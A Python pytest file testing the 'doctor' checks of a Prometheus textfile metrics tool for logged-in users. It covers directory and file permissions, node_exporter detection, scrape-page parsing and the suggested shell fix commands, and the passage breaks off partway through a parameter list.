"""doctor: every fault it names, and the healthy hosts that are clean."""

from __future__ import annotations

import errno
import grp
import http.server
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from shlex import quote
from typing import Any

import pytest

from tests.hosts import Host as Root
from textfile_users import by_hand
from textfile_users.accounts.passwd import find_memberships
from textfile_users.cli import _options, main
from textfile_users.collecting import ABSENT, DENIED
from textfile_users.parsers import parse_collect
from textfile_users.paths import LINKED_OUTPUT, PUBLIC
from textfile_users.product import SETTINGS
from textfile_users.setup import doctor as module
from textfile_users.setup import fixes as mends
from textfile_users.setup import system
from textfile_users.setup.checks import access, clock, container, rights, schedule, scrape, textfile
from textfile_users.setup.checks import directories as places
from textfile_users.setup.checks import exporters as exporters_check
from textfile_users.setup.checks import sessions as sessions_check
from textfile_users.setup.checks.child import (
    ChildFailed,
    Identity,
    in_child,
    own_identity,
    run_tool,
)
from textfile_users.setup.checks.result import FAULT, NOTE, OK, CheckResult, Seen, age
from textfile_users.setup.checks.result import Host as Checked
from textfile_users.setup.fixes import PROGRAM
from textfile_users.setup.node_exporter import NodeExporter
from textfile_users.setup.service import Service
from textfile_users.setup.settings import Fault, parse_settings

NOW = 1_790_000_000.0
USER = Identity("textfile-users", 995, 995, (995, 4, 43))


def one(findings: Any) -> CheckResult:
    (finding,) = findings
    assert isinstance(finding, CheckResult)
    return finding


def assert_fault(finding: CheckResult, found: str, mend: str) -> None:
    assert finding.status == FAULT
    assert found in finding.found
    assert finding.mend == mend


def checked(*argv: str, **changed: Any) -> Checked:
    """Return a host with what its runs are told."""
    return Checked(_options(parse_collect(list(argv))), USER, NOW, **changed)


@pytest.fixture(autouse=True)
def _tools_of_debian(monkeypatch: pytest.MonkeyPatch) -> None:
    """What mends are made of does not depend on where the tests run."""
    monkeypatch.setattr(mends, "has", lambda tool: tool in ("usermod", "apt-get"))
    monkeypatch.setattr(mends, "installed_service", lambda names: names[0])
    for user in (exporters_check, scrape):
        monkeypatch.setattr(user, "installed_service", lambda names: names[0])
    monkeypatch.setattr(scrape, "has", lambda tool: tool == "promtool")
    monkeypatch.setattr(scrape, "FLAGS_FILE", "/nonexistent")


# --- mends


def test_a_unit_is_found_wherever_systemd_finds_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In /usr/local/lib, too, where what an administrator has built is put."""
    monkeypatch.undo()
    (tmp_path / "node_exporter.service").touch()
    monkeypatch.setattr(mends, "SCRIPTS", "/nonexistent")
    directories = ("/nonexistent", str(tmp_path))
    monkeypatch.setattr(mends, "UNIT_DIRECTORIES", directories)
    assert mends.installed_service(("prometheus-node-exporter", "node_exporter")) == "node_exporter"
    monkeypatch.setattr(mends, "UNIT_DIRECTORIES", directories[:1])
    assert mends.installed_service(("prometheus-node-exporter", "node_exporter")) == ""


def test_the_program_is_named_so_that_a_shell_finds_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(sys, "base_prefix", "/usr")
    monkeypatch.setattr(sys, "prefix", "/opt/textfile-users")
    assert mends.own_command() == "/opt/textfile-users/bin/textfile-users"
    monkeypatch.setattr(sys, "prefix", "/usr")
    assert mends.own_command() == "textfile-users"
    monkeypatch.setattr(mends, "running_archive", lambda: "/root/textfile-users.pyz")
    monkeypatch.setattr(sys, "executable", "/usr/bin/python3")
    monkeypatch.setattr(mends, "PREFIX", str(tmp_path))
    assert mends.own_command() == "/usr/bin/python3 /root/textfile-users.pyz"
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/textfile-users").touch()
    assert mends.own_command() == f"{tmp_path}/bin/textfile-users"


def test_the_program_has_its_plain_name_where_root_has_linked_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    ours, link = tmp_path / "textfile-users", tmp_path / "bin"
    ours.touch()
    monkeypatch.setattr(mends, "LINKS", (f"{link}/textfile-users",))
    monkeypatch.setattr(mends, "own_command", lambda: str(ours))
    link.mkdir()
    assert mends.program() == str(ours)
    (link / "textfile-users").symlink_to("/bin/true")
    assert mends.program() == str(ours), "another's"
    (link / "textfile-users").unlink()
    (link / "textfile-users").symlink_to(ours)
    assert mends.program() == "textfile-users"


SED = f"sed -i 's|^[[:blank:]]*TEXTFILE_DIRECTORY=.*|TEXTFILE_DIRECTORY=/srv/b|' {SETTINGS}"


@pytest.mark.parametrize(
    ("output", "changed", "directory", "mend"),
    [
        ("/srv/a/users.prom", {}, "", "{} install"),
        ("/srv/a/users.prom", {"is_systemd": True, "runs_by_timer": True}, "", "{} install"),
        ("/srv/a/users.prom", {"is_systemd": True}, "", "{} install --cron"),
        (LINKED_OUTPUT, {"is_systemd": True, "runs_by_timer": True}, "", "{} install"),
        (LINKED_OUTPUT, {"is_systemd": True}, "/srv/b",
         "{} install --cron --textfile-directory /srv/b"),
        ("/srv/a/users.prom", {}, "DIR", "{} install --textfile-directory DIR"),
        # install takes no other directory than the one that is set
        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/b",
         f"{SED} && {{}} install"),
        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/a",
         "{} install"),
        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/b|c",
         f"${{{{EDITOR:-vi}}}} {SETTINGS} && {{}} install"),
    ],
)  # fmt: skip
def test_install_is_called_as_the_host_was_installed(
    output: str, changed: dict[str, Any], directory: str, mend: str
) -> None:
    host = checked("--output", output, **changed)
    assert mends.install(host, directory) == mend.format(PROGRAM)


def test_install_goes_on_in_place_where_it_was_asked_to(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Its drop-in is there then, and else not."""
    monkeypatch.setattr(mends, "DROP_IN", str(tmp_path))
    for by_timer, words in ((True, " --in-place"), (False, " --cron")):
        host = checked("--output", "/srv/a/users.prom", is_systemd=True, runs_by_timer=by_timer)
        assert mends.install(host) == f"{PROGRAM} install{words}"
        assert mends.link() == f"{PROGRAM} install"


@pytest.mark.parametrize(
    "line",
    ["OPTIONS=", 'OPTIONS=""', 'OPTIONS="--all-users"', "OPTIONS='--all-users --timeout 3'",
     "  OPTIONS=--all-users", "TEXTFILE_DIRECTORY=/a", 'OPTIONS="--exclude-user a&b"',
     "OPTIONS='--exclude-user $b'"],
)  # fmt: skip
def test_an_option_is_added_in_each_form_that_the_settings_take(line: str, tmp_path: Path) -> None:
    values, faults = parse_settings(line)
    assert faults == ()
    mend = mends.add_option(values, "--auth-source journal")
    if any(char in line for char in "$&"):  # what a shell or sed would take for its own
        assert mend == f"${{EDITOR:-vi}} {SETTINGS} # --auth-source journal"
        return
    file = tmp_path / "settings"
    file.write_text(line)  # without a newline at the end
    subprocess.run(["sh", "-ec", mend.replace(SETTINGS, str(file))], check=True)
    after, faults = parse_settings(file.read_text())
    assert faults == ()
    options = f"{values.get('OPTIONS', '')} --auth-source journal".strip()
    assert after == {**values, "OPTIONS": options}


def test_a_run_by_hand_is_its_users_with_the_options_of_the_others() -> None:
    argv = ("--output", "/a b/users.prom", "--state-directory", "/s", "--runtime-directory", "/r")
    values = {"OPTIONS": "--exclude-user nag* --all-users"}
    look = f"{PROGRAM} --exclude-user 'nag*' --all-users"
    written = f"{look} --output '/a b/users.prom' --state-directory /s --runtime-directory /r"
    as_user = "su -s /bin/sh textfile-users -c "
    assert mends.run(checked(*argv, values=values)) == as_user + quote(written)
    by_timer = mends.run(checked(*argv, runs_by_timer=True))
    assert by_timer == ("systemctl start textfile-users.service; journalctl -t textfile-users -n 5")
    explained = mends.explain(checked(*argv, values=values))
    made = "export D=$(mktemp -d); chown textfile-users $D; "
    assert explained.startswith(f"{made}{as_user}'{PROGRAM} ")
    assert "all-users -vv --output - " in explained
    assert explained.endswith("; rm -r $D")


@pytest.mark.parametrize(
    ("tools", "script", "joined", "restarted", "got"),
    [
        ("usermod apt-get", "cron", "usermod -aG adm,utmp x", "service cron restart",
         "apt-get install rsyslog"),
        ("usermod dnf", "crond", "usermod -aG adm,utmp x", "service crond restart",
         "dnf install rsyslog"),
        ("apk rc-service", "crond", "addgroup x adm && addgroup x utmp",
         "rc-service crond restart", "apk add rsyslog"),
        ("", "", "addgroup x adm && addgroup x utmp", "service cron restart", ""),
    ],
)  # fmt: skip
def test_names_are_the_hosts(
    tools: str, script: str, joined: str, restarted: str, got: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(mends, "has", lambda tool: tool in tools.split())
    monkeypatch.setattr(mends, "installed_service", lambda _: script)
    assert mends.join("x", ["adm", "utmp"]) == joined
    assert mends.service("restart", schedule.SERVICES, is_systemd=False) == restarted
    assert mends.service("start", schedule.SERVICES, True).startswith("systemctl enable --now cron")
    assert mends.package("rsyslog") == got


# --- places


STATE = places.Place("/var/lib/textfile-users", "directory", 995, "textfile-users", 0o700)


def judge_place(place: places.Place, *, by_timer: bool = False) -> CheckResult:
    return one(
        places.judge_place("state directory", place, USER, by_timer, NOW, installing="INSTALL")
    )


def test_a_state_directory_as_it_should_be() -> None:
    assert judge_place(STATE._replace(newest=NOW)).status == OK
    assert judge_place(STATE._replace(kind="link")).status == NOTE


MAKE = "install -d -m 700 -o textfile-users /var/lib/textfile-users"


@pytest.mark.parametrize(
    ("changed", "found", "mend"),
    [
        ({"kind": ""}, "is not there", MAKE),
        (
            {"kind": "other"},
            "is no directory",
            f"mv /var/lib/textfile-users /var/lib/textfile-users.old && {MAKE}",
        ),
        ({"error": "permission denied"}, "permission denied", "ls -ld /var/lib/textfile-users"),
        (
            {"kind": "link", "uid": 1000, "owner": "alice"},
            "is a link, of alice's",
            f"rm /var/lib/textfile-users && {MAKE}",
        ),
        (
            {"uid": 0, "owner": "root"},
            "is root's, not textfile-users's",
            "INSTALL",
        ),
        ({"mode": 0o755}, "mode 0755: others get in", "chmod 700 /var/lib/textfile-users"),
        (
            {"closed": "/var/lib"},
            "/var/lib is closed",
            "ls -ld /var/lib; mount | grep ' ro[,)]'",
        ),
        (
            {"broken": "/var/lib/textfile-users/lock"},
            "lock is not textfile-users's file",
            "rm -r /var/lib/textfile-users/lock",
        ),
        (
            {"newest": NOW + 7200},
            "from the future, by 2 h",
            "date; touch -h /var/lib/textfile-users/*",
        ),
    ],
)
def test_faults_of_a_state_directory(changed: dict[str, Any], found: str, mend: str) -> None:
    finding = judge_place(STATE._replace(**changed))
    assert_fault(finding, found, mend)


@pytest.mark.usefixtures("needs_root")
def test_a_link_of_another_is_not_followed(tmp_path: Path) -> None:
    """Where links are protected the kernel would not even let root do so."""
    link = tmp_path / "state"
    link.symlink_to("/nonexistent")
    os.lchown(link, 12345, 12345)
    finding = one(places.check_state(checked("--state-directory", str(link))))
    assert (finding.status, finding.found) == (FAULT, f"{link} is a link, of uid 12345's")


def test_the_runtime_directory_is_closed_to_others() -> None:
    """node_exporter's file lies beside it, not in it."""
    for mode, status in ((0o700, OK), (0o711, FAULT), (0o755, FAULT), (0o733, FAULT)):
        place = STATE._replace(mode=mode)
        finding = one(places.judge_place("runtime directory", place, USER, False, NOW))
        assert finding.status == status


def test_a_containers_runtime_directory_may_be_roots() -> None:
    """A mount of its own, as Docker and Kubernetes make it; none but the program gets there."""
    for mode in (0o1777, 0o777):
        place = STATE._replace(uid=0, owner="root", mode=mode)
        for is_alone, status in ((True, OK), (False, FAULT)):
            judged = places.judge_place("runtime directory", place, USER, False, NOW, is_alone)
            assert one(judged).status == status
    closed = STATE._replace(uid=0, closed=STATE.path)
    assert one(places.judge_place("runtime directory", closed, USER, False, NOW, True)).status == (
        FAULT
    )


def test_systemd_makes_the_state_directory() -> None:
    finding = judge_place(STATE._replace(kind=""), by_timer=True)
    assert finding.mend == "systemctl start textfile-users.service"


# --- access


@pytest.mark.parametrize(
    ("uid", "gid", "mode", "how", "may"),
    [
        (995, 0, 0o400, os.R_OK, True),
        (995, 0, 0o044, os.R_OK, False),  # the owner's bits alone count for the owner
        (0, 4, 0o640, os.R_OK, True),
        (0, 4, 0o640, os.W_OK, False),
        (0, 0, 0o640, os.R_OK, False),
        (0, 0, 0o604, os.R_OK, True),
        (0, 4, 0o604, os.R_OK, False),  # nor do others' for the group
    ],
)
def test_owner_group_and_mode(uid: int, gid: int, mode: int, how: int, may: bool) -> None:
    assert access.allows(uid, gid, mode, USER, how) is may
    assert access.allows(uid, gid, mode, Identity("root", 0, 0, (0,)), how)


def test_what_opens_a_part() -> None:
    part = access.Part("/var/log/auth.log", 0, 4, 0o100640, "adm")
    assert access.opening_command(part, os.R_OK, USER) == "usermod -aG adm textfile-users"
    closed = part._replace(mode=0o100600)
    assert access.opening_command(closed, os.R_OK, USER) == "chmod g+r /var/log/auth.log"
    closed = part._replace(gid=0, group="root")  # nobody is to join this one
    mend = "chgrp textfile-users /var/log/auth.log && chmod g+r /var/log/auth.log"
    assert access.opening_command(closed, os.R_OK, USER) == mend
    directory = access.Part("/srv", 0, 0, 0o40700, "root")
    assert access.opening_command(directory, os.X_OK, USER) == "chmod o+x /srv"


@pytest.mark.usefixtures("needs_root")
@pytest.mark.parametrize("by_kernel", [True, False])
def test_the_closed_part_of_a_path(
    open_directory: Path, by_kernel: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not by_kernel:
        monkeypatch.setattr(os, "geteuid", lambda: 12345)
    top, file = open_directory, open_directory / "a/b/file"
    file.parent.mkdir(parents=True)
    file.write_text("")
    file.chmod(0o644)
    assert access.closed_part(str(file), os.R_OK, USER) is None
    part = access.closed_part(str(file), os.W_OK, USER)
    assert part
    assert part.path == str(file)
    (top / "a").chmod(0o700)
    (top / "link").symlink_to(file)  # its own directory is open, that of its file is not
    for path in (file, top / "link"):
        part = access.closed_part(str(path), os.R_OK, USER)
        assert part
        assert part.path == str(top / "a")


@pytest.mark.usefixtures("needs_root")
def test_an_access_list_is_not_read_by_others(open_directory: Path) -> None:
    """Owner, group and mode do not tell whom it lets in: what has one is taken for open."""
    file = open_directory / "file"
    file.write_text("")
    file.chmod(0o640)
    by_mode = lambda part, how: access._may_by_mode(part, USER, how)  # noqa: E731
    assert access._first_closed(str(file), os.R_OK, by_mode) == str(file)
    entries = ((1, 6, -1), (2, 4, USER.uid), (4, 0, -1), (16, 4, -1), (32, 0, -1))
    data = b"".join(struct.pack("<HHi", *entry) for entry in entries)
    os.setxattr(file, access.ACCESS_LIST, struct.pack("<I", 2) + data)
    assert access._first_closed(str(file), os.R_OK, by_mode) == ""
    assert access.closed_part(str(file), os.R_OK, USER) is None, "the kernel's answer"


# --- who cannot see all


def test_what_is_hidden_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    """With hidepid= an ordinary user sees neither process 1 nor a node_exporter nor a crond."""
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    host = checked(has_rights=False)
    assert container.hides_processes(host)
    assert one(exporters_check.check_exporters(host)).status == NOTE
    finding = one(container.check_container(host._replace(container="/.dockerenv")))
    assert (finding.status, finding.found.endswith("hidepid=")) == (NOTE, True)
    assert not container.hides_processes(host._replace(init="systemd"))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    assert not container.hides_processes(host)


def test_a_file_and_a_directory_that_cannot_be_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    def stat(path: str, *_: object, **__: object) -> None:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), path)

    monkeypatch.setattr(os, "stat", stat)
    monkeypatch.setattr(os, "lstat", stat)
    monkeypatch.setattr(textfile, "closed_part", lambda *_: None)
    host = checked("--output", "/srv/textfile/users.prom", has_rights=False)
    for check in (textfile.check_directory, textfile.check_file):
        finding = one(check(host))
        assert (finding.status, finding.mend) == (NOTE, "")
        assert finding.found.endswith("cannot be seen by this user")
    finding = one(textfile.check_file(host._replace(has_rights=True)))
    assert (finding.status, finding.found) == (FAULT, "/srv/textfile/users.prom: permission denied")
    closed = access.Part("/srv", 0, 0, 0o40700, "root")
    monkeypatch.setattr(textfile, "closed_part", lambda *_: closed)
    finding = one(textfile.check_directory(host))
    assert (finding.status, finding.found) == (FAULT, "/srv is closed to textfile-users")


@pytest.mark.usefixtures("needs_root")
@pytest.mark.parametrize(
    ("by_timer", "mode", "can_read", "status", "found"),
    [
        (False, 0o644, True, OK, "set: nothing"),
        (False, 0o600, True, FAULT, "is closed to textfile-users"),  # cron's shell is its user's
        (True, 0o600, True, OK, "set: nothing"),  # systemd reads it as root
        (True, 0o600, False, NOTE, "cannot be read by this user: checked without"),
    ],
)
def test_who_is_to_read_the_settings(
    by_timer: bool,
    mode: int,
    can_read: bool,
    status: str,
    found: str,
    open_directory: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    file = open_directory / "settings"
    file.touch()
    file.chmod(mode)
    monkeypatch.setattr(rights, "SETTINGS", str(file))
    if not can_read:
        monkeypatch.setattr(os, "access", lambda *_: False)
    monkeypatch.setattr(rights, "read_settings", lambda _: ({}, ()))
    finding = one(rights.check_settings(checked(runs_by_timer=by_timer)))
    assert finding.status == status
    assert finding.found.endswith(found)


def test_the_key_is_for_who_may_read_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rights, "REDACT_KEY", "/nonexistent/key")
    host = checked("--redact", "user")._replace(identity=ROOT)
    assert one(rights.check_key(host)).status == FAULT
    assert list(rights.check_key(host._replace(has_rights=False))) == []


def test_a_zone_that_the_unit_cannot_read(
    open_directory: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    zone = open_directory / "zone"
    zone.touch()
    for mode, error in ((0o644, ""), (0o600, "closed to textfile-users")):
        zone.chmod(mode)
        told = clock._zone_error(checked(has_rights=False), str(zone))
        assert told == error


# --- before the first scan


def test_nothing_is_missing_before_the_first_scan(tmp_path: Path) -> None:
    gone = str(tmp_path / "state")
    host = checked(
        "--state-directory", gone, "--runtime-directory", f"{gone}/x", "--output", f"{gone}.prom",
        runs_by_timer=True, awaits_scan=True,
    )  # fmt: skip
    scanned = host._replace(awaits_scan=False)
    for check in (places.check_state, places.check_runtime, textfile.check_file):
        finding = one(check(host))
        assert (finding.status, finding.found[:11]) == (OK, "no scan yet")
        assert one(check(scanned)).status == FAULT
    by_cron = host._replace(runs_by_timer=False)  # install makes it, not the first scan
    assert one(places.check_state(by_cron)).status == FAULT


def test_an_old_file_before_the_first_scan_of_a_boot() -> None:
    old = FILE._replace(written=NOW - 9000)
    assert textfile.judge_file(old, USER, NOW, 5.0, "RUN").status == FAULT
    assert textfile.judge_file(old, USER, NOW, 5.0, "RUN", awaits_scan=True).status == OK
    empty = FILE._replace(written=NOW - 1, is_empty=True)  # as boot makes it
    judged = textfile.judge_file(empty, USER, NOW, 5.0, "RUN", awaits_scan=True)
    assert judged.found.startswith("no scan yet")


def test_a_page_before_the_first_scan() -> None:
    view = scrape.ExporterView(scrape_error=0, mtimes={})
    asked = ASKED._replace(written=None, awaits_scan=True)
    assert scrape.judge_view(view, asked).status == OK
    assert scrape.judge_view(view, asked._replace(written=NOW)).status == FAULT, "it is there"
    assert scrape.judge_view(view, asked._replace(awaits_scan=False)).status == FAULT
    assert scrape.judge_view(scrape.ExporterView(), asked).status == FAULT, "the collector is off"


# --- not installed


@pytest.mark.parametrize(
    ("output", "changed", "has_user", "is_used"),
    [
        ("", {}, False, False),
        ("-", {}, False, False),
        ("/nonexistent/users.prom", {}, False, False),
        ("/nonexistent/users.prom", {}, True, True),
        ("/etc/passwd", {}, False, True),  # something writes it
        ("", {"container": "/.dockerenv", "init": "every-5-seconds"}, False, True),
        ("", {"container": "lxc", "init": "systemd"}, False, False),
    ],
)
def test_what_is_not_installed(
    output: str,
    changed: dict[str, Any],
    has_user: bool,
    is_used: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(module, "find_identity", lambda *_: USER if has_user else None)
    host = checked()
    host = host._replace(options=host.options._replace(output=output), **changed)
    assert module._is_used(host) is is_used


def test_not_installed_is_one_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = Seen({"utmp": (OK, ()), "btmp": (DENIED, ()), "wtmp": (ABSENT, ())}, (), (), (), "")
    monkeypatch.setattr(module, "_host", lambda *_: checked(is_installed=False, has_rights=False))
    monkeypatch.setattr(module, "_with_scan", lambda host, _: host._replace(seen=seen))
    install, sources = module.examine(checked().options)
    assert (install.check, install.status) == ("install", FAULT)
    assert install.found.startswith("not installed: run script/install")
    assert install.mend == f"{PROGRAM} install"
    assert sources == CheckResult("sources", OK, "textfile-users can read: utmp; not: btmp")


# --- textfile directory and file


DIRECTORY = textfile.Directory(
    "/srv/textfile", True, 0o1775, "textfile-users", "", False, ("/srv/textfile",)
)


def judge_directory(**changed: Any) -> CheckResult:
    facts = DIRECTORY._replace(**changed)
    return one(textfile.judge_directory(facts, USER, lambda directory: f"INSTALL {directory}"))


def test_a_textfile_directory_as_it_should_be() -> None:
    assert judge_directory().status == OK
    assert judge_directory(flags=(), is_served=False).status == OK, "node_exporter's own default"
    assert judge_directory(flags=(), is_served=False, exporters=0).status == OK
    assert judge_directory(mode=0o755, is_own=True).status == OK
    assert judge_directory(mode=0o775).status == NOTE, "not sticky"


@pytest.mark.parametrize(
    ("changed", "found", "mend"),
    [
        (
            {"flags": ("/srv/other",), "is_served": False},
            "/srv/textfile; node_exporter reads /srv/other",
            "INSTALL /srv/other",
        ),
        (
            {"flags": ("/srv/*.d",), "is_served": False},
            "node_exporter reads /srv/*.d",
            "INSTALL DIR",
        ),
        (
            {"exists": False},
            "/srv/textfile is not there",
            "install -d -m 1775 -g textfile-users /srv/textfile",
        ),
        (
            {"closed": "/srv/textfile"},
            "/srv/textfile is closed to textfile-users",
            "chgrp textfile-users /srv/textfile && chmod 1775 /srv/textfile",
        ),
        ({"closed": "/srv"}, "/srv is closed", "chmod o+x /srv"),
        ({"path": PUBLIC, "exists": False}, f"{PUBLIC} is not there", textfile.MAKE_PUBLIC),
        ({"path": PUBLIC, "closed": PUBLIC}, f"{PUBLIC} is closed", textfile.MAKE_PUBLIC),
        ({"path": PUBLIC, "closed": os.path.dirname(PUBLIC)}, "is closed", textfile.MAKE_PUBLIC),
        ({"mode": 0o1777}, "everybody can write", "chmod o-w /srv/textfile"),
    ],
)
def test_faults_of_a_textfile_directory(changed: dict[str, Any], found: str, mend: str) -> None:
    finding = judge_directory(**changed)
    assert_fault(finding, found, mend)


def test_rights_that_were_set_back_are_needed_no_more_with_a_link() -> None:
    """A role of Ansible's sets them back with each run: to set them again would not last."""
    role = DIRECTORY._replace(closed="/srv/textfile", mode=0o755, group="node-exp")
    judged = textfile.judge_directory(role, USER, lambda _: "INSTALL DIR", "INSTALL")
    assert one(judged).mend == "INSTALL"


def test_a_link_in_the_directory_serves_a_file_elsewhere(tmp_path: Path) -> None:
    runtime, served = tmp_path / "run", tmp_path / "served"
    runtime.mkdir()
    served.mkdir()
    is_served = exporters_check.is_served
    assert not is_served(str(runtime), "users.prom", (str(served),))
    (served / "users.prom").symlink_to(runtime / "users.prom")
    assert is_served(str(runtime), "users.prom", (str(served),))
    assert is_served(str(served), "users.prom", (str(tmp_path / "x"), str(served))), "two flags"


FILE = textfile.PromFile(
    "/srv/textfile/users.prom", "file", 0o644, written=NOW - 3, owner="textfile-users"
)


def judge_file(**changed: Any) -> CheckResult:
    return textfile.judge_file(FILE._replace(**changed), USER, NOW, 5.0, "RUN")


def test_a_file_as_it_should_be() -> None:
    assert judge_file() == CheckResult("users.prom", OK, "written 3 s ago, mode 0644")


@pytest.mark.parametrize(
    ("changed", "found", "mend"),
    [
        (
            {"path": "/srv/users.txt"},
            ".prom only",
            "${EDITOR:-vi} /etc/default/textfile-users",
        ),
        ({"error": "permission denied"}, "permission denied", "ls -ld /srv/textfile/users.prom"),
        ({"kind": ""}, "is not written", "RUN"),
        ({"kind": "dangling"}, "link to nothing", "rm /srv/textfile/users.prom; RUN"),
        (
            {"kind": "other"},
            "is no file",
            "rm -r /srv/textfile/users.prom; RUN",
        ),
        ({"is_stuck": True, "owner": "root"}, "root's: the sticky", "rm /srv/textfile/users.prom"),
        (
            {"closed": "/srv/textfile/users.prom", "reader": "prometheus", "mode": 0o600},
            "is closed to prometheus",
            "rm -r /srv/textfile/users.prom; RUN",
        ),
        ({"closed": "/srv", "reader": "prometheus"}, "/srv is closed", "chmod o+x /srv"),
        ({"mode": 0o666}, "others can write", "rm -r /srv/textfile/users.prom; RUN"),
        ({"written": NOW - 600}, "written 10 min ago, every 5 s is due", "RUN"),
        ({"written": NOW + 7200}, "written 2 h in the future", "date; RUN"),
    ],
)
def test_faults_of_a_file(changed: dict[str, Any], found: str, mend: str) -> None:
    finding = judge_file(**changed)
    assert_fault(finding, found, mend)


def test_the_time_in_a_file() -> None:
    text = b"# TYPE x gauge\nusers_run_timestamp_seconds 1.79e+09\nusers_build_info 1\n"
    assert textfile.run_time(text) == 1.79e9
    assert textfile.run_time(b"users_run_timestamp_seconds") == 0
    assert textfile.run_time(b"\nusers_run_timestamp_seconds many\n") == 0


EXPORTER = NodeExporter(9, "prometheus", 990, (), ":9100", True, "")
ALLOY = NodeExporter(9, "alloy", 991, (), "", True, "", "/etc/alloy/config.alloy")


@pytest.mark.parametrize(
    ("exporters", "changed", "status", "found", "mend"),
    [
        ((), {}, FAULT, "none runs here", "service prometheus-node-exporter start"),
        ((), {"is_systemd": True}, FAULT, "none runs here",
         "systemctl enable --now prometheus-node-exporter"),
        ((), {"container": "/.dockerenv"}, NOTE, "none runs here", ""),
        ((EXPORTER,), {}, OK, "pid 9 of prometheus, on :9100", ""),
        # One that runs as nobody or as a user of its own: a second one would help nobody.
        ((EXPORTER._replace(trusted=False, uid=65534, why="odd"),), {}, NOTE,
         "none that can be believed: none is asked", ""),
        ((ALLOY._replace(directories=("/srv/textfile",)),), {}, OK,
         "pid 9 of alloy: Grafana Alloy, by /etc/alloy/config.alloy", ""),
        # Alloy may be there for logs alone.
        ((ALLOY._replace(trusted=False, why="no block"), EXPORTER), {}, OK,
         "pid 9 of prometheus, on :9100", ""),
        ((ALLOY._replace(trusted=False, why="no block"),), {}, FAULT, "none runs here",
         "service prometheus-node-exporter start"),
    ],
)  # fmt: skip
def test_node_exporters(
    exporters: tuple[NodeExporter, ...], changed: dict[str, Any], status: str, found: str, mend: str
) -> None:
    last = list(exporters_check.check_exporters(checked(exporters=exporters, **changed)))[-1]
    assert (last.status, last.found, last.mend) == (status, found, mend)


def test_a_node_exporter_that_is_not_there(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporters_check, "installed_service", lambda _: "")
    (finding,) = exporters_check.check_exporters(checked())
    assert finding.mend == "apt-get install prometheus-node-exporter"
    monkeypatch.setattr(mends, "has", lambda tool: tool == "dnf")  # which has no such package
    (finding,) = exporters_check.check_exporters(checked())
    assert finding.mend.startswith("# install node_exporter: https://")


def test_alloy_without_textfiles_is_a_note() -> None:
    host = checked(exporters=(ALLOY._replace(trusted=False, why="no block"),))
    first = next(iter(exporters_check.check_exporters(host)))
    assert (first.status, first.found) == (NOTE, "pid 9 of alloy: Grafana Alloy: no block")


def test_alloys_page_is_not_asked_for() -> None:
    host = checked("--output", "/x/users.prom", exporters=(ALLOY._replace(directories=("/x",)),))
    assert one(scrape.check_view(host)).status == NOTE


def test_node_exporters_of_another_host_are_not_judged() -> None:
    assert list(exporters_check.check_exporters(checked("--root", "/host"))) == []


# --- node_exporter's view


PAGE = b"""\
# HELP node_textfile_scrape_error 1 if there was an error
node_textfile_mtime_seconds{file="/srv/a\\"b/users.prom"} 1.79e+09
node_textfile_mtime_seconds{file="/srv/x.prom"} many
node_textfile_scrape_error 0
"""


def test_what_a_page_says() -> None:
    view = scrape.parse_page(iter(PAGE.split(b"\n")))
    assert view.scrape_error == 0
    assert dict(view.mtimes) == {'/srv/a"b/users.prom': 1.79e9}


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (":9100", ("127.0.0.1", 9100)),
        ("0.0.0.0:9101", ("127.0.0.1", 9101)),
        ("[::]:9100", ("127.0.0.1", 9100)),
        ("localhost:9100", ("127.0.0.1", 9100)),
        ("127.0.0.2:9100", ("127.0.0.2", 9100)),
        ("[::1]:9100", ("::1", 9100)),
        ("192.0.2.1:9100", None),  # only the loopback is asked
        ("127.example.org:9100", None),
        (":0", None),
        (":99999999", None),
        ("vsock", None),
        ("", None),
    ],
)
def test_where_a_node_exporter_is_asked(text: str, place: tuple[str, int] | None) -> None:
    assert scrape.parse_listen(text) == place


PATHS = ["/srv/textfile/users.prom"]
TAKEN = scrape.ExporterView(scrape_error=0, mtimes={PATHS[0]: NOW})
ASKED = scrape.Asked("127.0.0.1:9100", 9, tuple(PATHS), True, NOW + 5)


@pytest.mark.parametrize(
    ("view", "status", "found", "mend"),
    [
        (TAKEN, OK, "takes the file", ""),
        (scrape.ExporterView("HTTP 401", is_closed=True), NOTE, "HTTP 401", ""),
        (
            scrape.ExporterView("connection refused"),
            FAULT,
            "127.0.0.1:9100: connection refused",
            "systemctl restart prometheus-node-exporter",
        ),
        (
            scrape.ExporterView(),
            FAULT,
            "collector is off: it needs --collector.textfile.directory=",
            "tr '\\0' ' ' </proc/9/cmdline",
        ),
        (
            scrape.ExporterView(scrape_error=1),
            FAULT,
            "cannot take the file",
            "promtool check metrics </srv/textfile/users.prom",
        ),
        (
            TAKEN._replace(scrape_error=1.0),
            FAULT,
            "takes the file, and not all others",
            'for f in /srv/textfile/*.prom; do [ -f "$f" ] && promtool check metrics <"$f" '
            '>/dev/null 2>&1; [ $? != 1 ] || ls -dq "$f"; done',
        ),
        (
